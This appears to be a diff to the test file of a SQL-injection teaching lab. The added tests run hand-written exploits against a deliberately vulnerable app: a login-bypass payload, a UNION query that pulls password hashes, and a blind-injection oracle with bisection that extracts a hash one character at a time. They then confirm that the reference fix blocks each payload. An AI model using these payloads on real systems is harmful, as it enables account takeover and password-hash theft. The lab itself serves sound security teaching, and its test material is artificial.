@@ -238,9 +238,60 @@ def test_verify_fails_on_parameterization_without_a_length_limit(lab: Lab) -> No
     fixes = {**pick(REFERENCE, QUERIES), **pick(VULNERABLE, ("validate_user", "body_too_large"))}
     result = lab.check("verify", **fixes)
     assert not result.passed
-    assert mentions(result, "[no-crash] validate_user raised TypeError")  # a list body
+    assert mentions(result, "validate_user raised TypeError")  # a list body
 
 
 def test_verify_passes_on_the_reference(lab: Lab) -> None:
     result = lab.check("verify", **REFERENCE)
     assert result.passed, repr(result)
+
+
+# -- the learner's own exploits, written from building blocks (as the solved notebook does) --
+def oracle_on(client: Any) -> Callable[[str], bool]:
+    """A one-bit oracle written by hand: one request, alice comes back or not."""
+
+    def oracle(condition: str) -> bool:
+        email = f"alice@example.com' AND ({condition}) --"
+        return bool(client.get("/api/users", params={"email": email}).json().get("users"))
+
+    return oracle
+
+
+def bisect(oracle: Callable[[str], bool], expression: str, low: int, high: int) -> int:
+    while low < high:
+        middle = (low + high) // 2
+        if oracle(f"({expression}) > {middle}"):
+            low = middle + 1
+        else:
+            high = middle
+    return low
+
+
+HAND_UNION = (
+    "' UNION SELECT id, email, role, password_hash, token_version, password_hash, age FROM users --"
+)
+HAND_BYPASS = {"email": "' OR '1'='1", "password": "no idea"}
+
+
+def test_hand_written_exploits_pass_the_attack_checks(lab: Lab) -> None:
+    assert lab.check("auth-bypass", HAND_BYPASS).passed
+    rows = lab.client.get("/api/users", params={"email": HAND_UNION}).json()["users"]
+    assert lab.check("union-hashes", {r["email"]: r["name"] for r in rows if r["name"]}).passed
+    oracle = oracle_on(lab.client)
+    assert oracle("1 = 1") and not oracle("1 = 2")
+    length = bisect(oracle, f"length(({ALICE_HASH}))", 0, 256)
+    extracted = "".join(
+        chr(bisect(oracle, f"unicode(substr(({ALICE_HASH}), {i}, 1))", 0, 127))
+        for i in range(1, length + 1)
+    )
+    result = lab.check("blind-extract", extracted)
+    assert result.passed, repr(result)
+
+
+def test_hand_written_exploits_are_refused_by_the_reference_fix(lab: Lab) -> None:
+    fixed = lab.patched(**REFERENCE)
+    assert fixed.client.post("/api/auth/login", json=HAND_BYPASS).status_code == 401
+    union = fixed.client.get("/api/users", params={"email": HAND_UNION})
+    assert union.status_code == 200 and union.json()["users"] == []
+    oracle = oracle_on(fixed.client)
+    assert not oracle("1 = 1") and not oracle("1 = 2")  # the oracle learns nothing
